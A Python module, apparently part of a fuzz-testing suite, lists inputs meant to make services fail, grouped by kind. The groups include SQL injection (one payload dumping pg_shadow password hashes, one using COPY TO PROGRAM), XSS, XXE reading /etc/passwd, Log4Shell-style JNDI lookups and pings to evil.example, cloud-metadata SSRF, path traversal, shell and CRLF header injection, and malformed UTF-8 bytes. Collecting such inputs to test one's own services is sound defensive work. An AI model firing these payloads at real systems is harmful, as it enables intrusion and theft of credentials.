"""What is sent to services to make them fail, or repeat it: one list for every place where input is taken."""

from urllib.parse import quote

SQL = [
    "'", '"', "''", "' OR '1'='1", "' OR 1=1--", '" OR ""="', "1; DROP TABLE localities--", "1') OR ('1'='1",
    "' UNION SELECT usename, passwd FROM pg_shadow--", "1 AND pg_sleep(10)", "'||pg_sleep(10)--", "1/**/OR/**/1=1",
    "'; COPY (SELECT 1) TO PROGRAM 'id'--", "\\'; SELECT 1--", "$$;SELECT 1;$$", "%' AND 1=CAST(version() AS int)--",
    "x' AND 1=(SELECT count(*) FROM pg_class)--", "`id`", "1e0", "0x27", "_%_%_%_%", "\\", "E'\\047'", ":release_id",
    "$1", "ARRAY[1]", "{1,2}", "a & b | !c", "a:*", "(((((((((((", "'a' <-> 'b'",
]  # fmt: skip
HTML = [
    "<script>alert(1)</script>", '"><script>alert(1)</script>', "'><img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>", "<iframe src=javascript:alert(1)>", "</title><script>alert(1)</script>",
    "<!--<script>alert(1)//-->", "<a href=//evil.example>", "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>", '" onfocus=alert(1) autofocus="', "<base href=//evil.example>",
    "&lt;script&gt;", "&#x3c;script&#x3e;", "<math><mtext></form><form>", "</script><script>1</script>",
    "<style>@import'//e'</style>", "]]><x>",
    "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>", "<%= 7*7 %>",
]  # fmt: skip
TEMPLATES = [
    "{{7*7}}", "${7*7}", "#{7*7}", "{{config}}", "{{''.__class__.__mro__}}", "{% include '/etc/passwd' %}",
    "${{7*7}}", "@(7*7)", "{{request.application.__globals__}}", "{0.__class__}", "%s%s%s%n", "%(password)s",
    "%x%x%x%x", "{}", "{0}", "{password}", "${jndi:ldap://evil.example/a}", "${${lower:j}ndi:rmi://evil.example/a}",
    "${env:DATABASE_URL}", "__import__('os').system('id')", '{"$gt":""}', '{"__proto__":{"x":1}}', "__proto__",
    "constructor.prototype", "!!python/object/apply:os.system ['id']",
]  # fmt: skip
PATHS = [
    "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "....//....//etc/passwd", "/etc/passwd",
    "file:///etc/passwd", "..;/..;/", "..%2f..%2fetc%2fpasswd", "%2e%2e%2f", "%252e%252e%252f", "..%c0%af..%c0%afetc",
    "C:\\boot.ini", "\\\\evil.example\\a", "//evil.example", "/\\evil.example", "https://evil.example/",
    "http://169.254.169.254/latest/", ".git/config", "./.", "~root", "a/../b", "?page=2", "#top", ";jsessionid=1",
    "&page=2", "page=2&page=3",
]  # fmt: skip
SHELL = [
    "; id", "| id", "&& id", "$(id)", "`id`;", "|| true", "() { :;}; echo x", "\n/bin/id",
    "& ping -c 1 evil.example &", "-oProxyCommand=id", "--help", "> /tmp/x",
]  # fmt: skip
CONTROL = [
    "\x00", "1\x00", "\x00'", "a\x00b", "\r\n", "\r\nSet-Cookie: a=b", "\r\nX-Injected: 1", "\n\nbody", "\r", "\n",
    "\t", "\x0b\x0c", "\x1b[2J", "\x1b]0;title\x07", "\x7f", "\x08\x08", "\x85", "\u2028", "\u2029",
    "%0d%0aX-Injected:1", "%E5%98%8A%E5%98%8DX-Injected:1",
]  # fmt: skip
UNICODE = [
    "١", "１", "१", "²", "½", "Ⅷ", "1\u00a0", "\u200b1", "\ufeff1", "1\u202e2", "\u202etxt.exe", "\u2066a\u2069",
    "\u200f\u200e", "\U0001f4a9", "\U0010ffff", "\ufffe", "\ufdd0", "e\u0301" * 40, "a" + "\u0300" * 80,
    "\ufdfa" * 30, "ﬀ", "ı", "İ", "ß" * 80, "ǅ", "＜script＞", "ʺ＞", "ａ", "ﷺ", "𝟙", "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢",
    "שָׁלוֹם", "田中さん", "\U000e0001\U000e0041",
]  # fmt: skip
NUMBERS = [
    "0", "-0", "-1", "+1", "1.0", "1e3", "1e309", "-1e309", "NaN", "nan", "Infinity", "-inf", "0x10", "0o7", "1_000",
    "1,000", " 1", "1 ", "01", "2147483647", "2147483648", "-2147483649", "4294967296", "9007199254740993",
    "9223372036854775807", "9223372036854775808", "18446744073709551616", "9" * 400, "0" * 400,
    "0." + "0" * 300 + "1", "90.0000001", "-180.5", "1e-400", "", " ", "null", "true", "[]", "undefined",
]  # fmt: skip
LONG = ["a" * 3000, "%" * 500, "(" * 1000, "a," * 1000, "'" * 500, "\u00f1" * 500, "a b " * 500]

# Bytes that are no text: overlong forms, surrogates, what is cut short; written as they go over the wire.
BYTES = [
    b"\xc0\xaf", b"\xc0\x80", b"\xe0\x80\xaf", b"\xf0\x80\x80\xaf", b"\xc1\xbc", b"\xed\xa0\x80", b"\xed\xbf\xbf",
    b"\xed\xa0\xbd\xed\xb2\xa9", b"\xff", b"\xfe\xff", b"\x80", b"\xc3", b"\xe2\x82", b"\xf0\x9f\x92",
    b"\xf4\x90\x80\x80", b"\xf8\x88\x80\x80\x80", b"\xc3\x28", b"a\xffb",
]  # fmt: skip
TEXTS = [*SQL, *HTML, *TEMPLATES, *PATHS, *SHELL, *CONTROL, *UNICODE, *NUMBERS, *LONG]
INPUTS = list(dict.fromkeys([*(text.encode() for text in TEXTS), *BYTES]))


def encoded(data: bytes) -> bytes:
    """Return an input as a part of an address, every byte of it that is not a letter or a digit escaped."""
    return quote(data, safe="").encode()


def decoded(data: bytes) -> bytes:
    """Return an input as it is, but for what would end the request's line: the server's parser is to judge the rest."""
    return data.translate(None, b"\r\n ")
